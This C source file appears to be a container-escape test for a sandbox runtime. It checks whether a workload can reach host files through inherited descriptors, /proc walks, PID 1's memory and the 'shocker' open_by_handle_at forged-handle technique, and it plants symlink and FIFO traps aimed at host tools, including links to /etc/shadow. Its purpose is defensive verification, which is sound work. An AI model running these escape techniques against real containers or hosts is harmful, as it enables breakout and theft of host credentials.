/*
 * e02_hostfiles: reach host files from inside a slice.
 *   e02_hostfiles check MARKER MARKER_DEV:INO SECRET HOST_ROOT_DEV
 *     - only fds 0, 1, 2 are open at exec (nothing inherited from the host)
 *     - the host environment did not leak in (VSLICE_ESCAPE_CANARY)
 *     - the host marker file by its path, through /proc/PID/root and cwd of
 *       every visible process, through every reachable /proc/PID/fd
 *     - PID 1 (a runtime process that held host resources) is opaque:
 *       fd, environ, mem, maps, root, cwd
 *     - open_by_handle_at ("shocker"): own handles and a forged handle for
 *       inode 2 (the root of an ext4 fs), against / and the stdio fds (which
 *       may be host files, e.g. the slice log)
 *   e02_hostfiles plant VICTIM_DIR
 *     - plants absolute and ../ symlinks to VICTIM_DIR (a host directory) and
 *       FIFOs where a host tool might read or write the slice's root fs, for
 *       the driver to run slicectl exec/logs/stop/start/destroy afterwards.
 */
#include "escape.h"

static dev_t host_dev, marker_dev;
static ino_t marker_ino;
static const char *marker, *secret;

static void fd_check_at_exec(void)
{
	/* Must run first: nothing else opened a file yet. */
	DIR *d = opendir("/proc/self/fd");
	if (!d) {
		info("opendir /proc/self/fd: %s", strerror(errno));
		return;
	}
	int extra = 0;
	char list[512] = "";
	struct dirent *e;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		int fd = atoi(e->d_name);
		if (fd == dirfd(d))
			continue;
		if (fd > 2) {
			char p[64], t[256] = "";
			snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
			ssize_t n = readlink(p, t, sizeof(t) - 1);
			if (n > 0)
				t[n] = '\0';
			size_t l = strlen(list);
			snprintf(list + l, sizeof(list) - l, " %d->%s", fd, t);
			extra++;
		}
	}
	closedir(d);
	if (extra)
		escaped("fds other than 0,1,2 open at exec:%s", list);
	else
		blocked("only fds 0, 1, 2 open at exec");
}

/* Is this open fd the marker, or a host directory? */
static int judge_fd(int fd, const char *how)
{
	struct stat st;
	if (fstat(fd, &st) != 0)
		return 0;
	if (marker_ino && st.st_dev == marker_dev && st.st_ino == marker_ino) {
		escaped("%s: opened the host marker file", how);
		return 1;
	}
	if (host_dev && st.st_dev == host_dev && S_ISDIR(st.st_mode)) {
		escaped("%s: a directory of the host root fs (ino %lu)", how,
			(unsigned long)st.st_ino);
		return 1;
	}
	if (secret && S_ISREG(st.st_mode)) {
		char buf[256];
		ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);
		if (n > 0) {
			buf[n] = '\0';
			if (strstr(buf, secret)) {
				escaped("%s: read the host secret", how);
				return 1;
			}
		}
	}
	return 0;
}

static void try_path(const char *path)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0) {
		blocked("open %s: %s", path, strerror(errno));
		return;
	}
	struct stat st;
	if (judge_fd(fd, path))
		;
	else if (host_dev && fstat(fd, &st) == 0 && st.st_dev == host_dev)
		escaped("open %s: a file of the host root fs (ino %lu)", path, (unsigned long)st.st_ino);
	else
		blocked("open %s: opened, but it is not the host's file", path);
	close(fd);
}

static void walk_proc(void)
{
	DIR *d = opendir("/proc");
	if (!d)
		return;
	struct dirent *e;
	pid_t self = getpid();
	int canary_leaks = 0;
	while ((e = readdir(d))) {
		pid_t pid = atoi(e->d_name);
		if (pid <= 0 || pid == self)
			continue;
		char p[512], buf[8192];
		if (marker) {
			snprintf(p, sizeof(p), "/proc/%d/root%s", pid, marker);
			try_path(p);
			snprintf(p, sizeof(p), "/proc/%d/cwd", pid);
			int cfd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			if (cfd >= 0) {
				char t[32];
				snprintf(t, sizeof(t), "cwd of %d", pid);
				if (!judge_fd(cfd, t))
					blocked("/proc/%d/cwd is inside the slice", pid);
				close(cfd);
			}
		}
		snprintf(p, sizeof(p), "/proc/%d/environ", pid);
		ssize_t n = read_file(p, buf, sizeof(buf));
		if (n > 0) {
			for (ssize_t i = 0; i < n; i++)
				if (buf[i] == '\0')
					buf[i] = '\n';
			if (strstr(buf, "VSLICE_ESCAPE_CANARY")) {
				escaped("/proc/%d/environ holds the host's environment", pid);
				canary_leaks++;
			}
		}
		snprintf(p, sizeof(p), "/proc/%d/fd", pid);
		DIR *fdd = opendir(p);
		if (!fdd) {
			blocked("opendir /proc/%d/fd: %s", pid, strerror(errno));
			continue;
		}
		if (pid == 1)
			info("/proc/1/fd lists (fd numbers only; each link must stay closed)");
		struct dirent *f;
		while ((f = readdir(fdd))) {
			if (f->d_name[0] == '.')
				continue;
			char fp[64], how[64];
			int fdn = atoi(f->d_name);
			snprintf(fp, sizeof(fp), "/proc/%d/fd/%d", pid, fdn);
			snprintf(how, sizeof(how), "/proc/%d/fd/%d", pid, fdn);
			int fd = open(fp, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
			if (fd < 0)
				fd = open(fp, O_PATH | O_CLOEXEC);
			if (fd >= 0) {
				if (!judge_fd(fd, how) && pid == 1)
					escaped("%s: PID 1's fd opened", how);
				close(fd);
			} else if (pid == 1)
				blocked("open %s: %s", how, strerror(errno));
			char t[256];
			ssize_t tn = readlink(fp, t, sizeof(t) - 1);
			if (tn >= 0 && pid == 1) {
				t[tn] = '\0';
				escaped("readlink %s = %s: PID 1's files are visible", how, t);
			}
		}
		closedir(fdd);
	}
	closedir(d);
	if (!canary_leaks)
		blocked("no visible process carries the host's environment");
}

static void pid1_opaque(void)
{
	static const char *files[] = { "/proc/1/mem", "/proc/1/maps", "/proc/1/environ",
				       "/proc/1/auxv", "/proc/1/stack", "/proc/1/syscall" };
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		int fd = open(files[i], O_RDONLY | O_CLOEXEC);
		char what[64];
		snprintf(what, sizeof(what), "open %s", files[i]);
		if (fd >= 0 && i == 0) {
			close(fd);
			escaped("%s: opened (PID 1 is dumpable)", what);
			continue;
		}
		if (fd >= 0) {
			char c;
			ssize_t n = read(fd, &c, 1);
			close(fd);
			if (n <= 0) {
				blocked("%s: opened, read %s", what, n < 0 ? strerror(errno) : "EOF");
				continue;
			}
			escaped("%s: readable (PID 1 is dumpable)", what);
			continue;
		}
		blocked("%s: %s", what, strerror(errno));
	}
	char t[256];
	ssize_t n = readlink("/proc/1/root", t, sizeof(t) - 1);
	if (n >= 0) {
		t[n] = '\0';
		info("readlink /proc/1/root = %s", t);
	} else
		blocked("readlink /proc/1/root: %s", strerror(errno));
}

static void shocker(void)
{
	struct {
		struct file_handle fh;
		unsigned char buf[MAX_HANDLE_SZ];
	} h;
	int mnt_id;
	int rootfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	h.fh.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, "/etc", &h.fh, &mnt_id, 0) == 0) {
		int fd = open_by_handle_at(rootfd, &h.fh, O_RDONLY | O_CLOEXEC);
		expect_fail("open_by_handle_at(own handle of /etc)", fd);
		if (fd >= 0)
			close(fd);
	} else
		info("name_to_handle_at(/etc): %s", strerror(errno));

	/* A forged FILEID_INO32_GEN handle for inode 2: the root dir of ext4. */
	h.fh.handle_bytes = 8;
	h.fh.handle_type = 1;
	uint32_t ino_gen[2] = { 2, 0 };
	memcpy(h.fh.f_handle, ino_gen, sizeof(ino_gen));
	int mounts[] = { rootfd, 0, 1, 2 };
	const char *names[] = { "/", "fd 0", "fd 1", "fd 2" };
	for (size_t i = 0; i < 4; i++) {
		char what[96];
		snprintf(what, sizeof(what), "open_by_handle_at(%s, forged inode-2 handle)", names[i]);
		int fd = open_by_handle_at(mounts[i], &h.fh, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			escaped("%s: opened a directory by forged handle", what);
			judge_fd(fd, what);
			close(fd);
		} else
			blocked("%s: %s", what, strerror(errno));
	}
	close(rootfd);
}

static void plant(const char *victim)
{
	static const char *files[] = { "/etc/hosts",   "/etc/hostname", "/etc/resolv.conf",
				       "/etc/passwd",  "/etc/group",    "/etc/shadow",
				       "/etc/mtab",    "/etc/localtime", "/log",
				       "/exit",	       "/state.json",   "/spec.json",
				       "/lock",	       "/.vslice",	"/etc/os-release" };
	static const char *dirs[] = { "/tmp", "/root", "/home", "/var", "/run", "/mnt", "/opt",
				      "/srv", "/upper", "/work", "/rootfs", "/lower" };
	char t[512];
	mkdir("/etc", 0755);
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		const char *b = strrchr(files[i], '/') + 1;
		unlink(files[i]);
		snprintf(t, sizeof(t), "%s/%s", victim, b);
		if (symlink(t, files[i]) == 0)
			info("planted %s -> %s", files[i], t);
		else
			info("could not plant %s: %s", files[i], strerror(errno));
	}
	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
		char old[128];
		snprintf(old, sizeof(old), "%s.orig", dirs[i]);
		if (rmdir(dirs[i]) != 0 && errno != ENOENT && rename(dirs[i], old) != 0)
			info("could not move %s aside: %s", dirs[i], strerror(errno));
		snprintf(t, sizeof(t), "../../../../../../../../../..%s%s", victim, dirs[i]);
		if (symlink(t, dirs[i]) == 0)
			info("planted %s -> %s", dirs[i], t);
		else
			info("could not plant %s: %s", dirs[i], strerror(errno));
	}
	/* FIFOs: a host tool that reads them would hang. */
	static const char *fifos[] = { "/etc/nsswitch.conf", "/etc/environment", "/.profile" };
	for (size_t i = 0; i < sizeof(fifos) / sizeof(fifos[0]); i++) {
		unlink(fifos[i]);
		if (mkfifo(fifos[i], 0644) == 0)
			info("planted FIFO %s", fifos[i]);
	}
	/* A tree deeper than PATH_MAX, for destroy to remove. */
	if (mkdir("/deep", 0755) == 0 && chdir("/deep") == 0) {
		int i;
		for (i = 0; i < 3000; i++)
			if (mkdir("dddddddddddddddddddddddddddddddddddddddd", 0755) != 0 ||
			    chdir("dddddddddddddddddddddddddddddddddddddddd") != 0)
				break;
		int fd = open("bottom", O_CREAT | O_WRONLY, 0644);
		if (fd >= 0)
			close(fd);
		info("planted a %d-level deep tree under /deep", i);
		if (chdir("/") != 0)
			info("chdir /: %s", strerror(errno));
	}
	printf("PLANTED\n");
}

int main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "check") == 0) {
		fd_check_at_exec();
		esc_init();
		marker = argc > 2 ? argv[2] : NULL;
		if (argc > 3) {
			unsigned ma, mi;
			unsigned long ino;
			if (sscanf(argv[3], "%u:%u:%lu", &ma, &mi, &ino) == 3) {
				marker_dev = makedev(ma, mi);
				marker_ino = (ino_t)ino;
			}
		}
		secret = argc > 4 ? argv[4] : NULL;
		host_dev = argc > 5 ? parse_dev(argv[5]) : 0;
		if (getenv("VSLICE_ESCAPE_CANARY"))
			escaped("the host environment leaked into the workload (VSLICE_ESCAPE_CANARY)");
		else
			blocked("the workload's environment does not carry the host's");
		if (marker) {
			try_path(marker);
			char p[512];
			snprintf(p, sizeof(p), "/proc/1/root%s", marker);
			try_path(p);
			snprintf(p, sizeof(p), "/proc/self/root%s", marker);
			try_path(p);
			snprintf(p, sizeof(p), "/../../../../..%s", marker);
			try_path(p);
		}
		try_path("/proc/1/root/etc/shadow");
		pid1_opaque();
		walk_proc();
		shocker();
		return esc_finish();
	}
	if (argc > 2 && strcmp(argv[1], "plant") == 0) {
		esc_init();
		plant(argv[2]);
		return 0;
	}
	fprintf(stderr, "usage: e02_hostfiles check MARKER DEV:INO SECRET HOSTDEV | plant VICTIM\n");
	return 2;
}
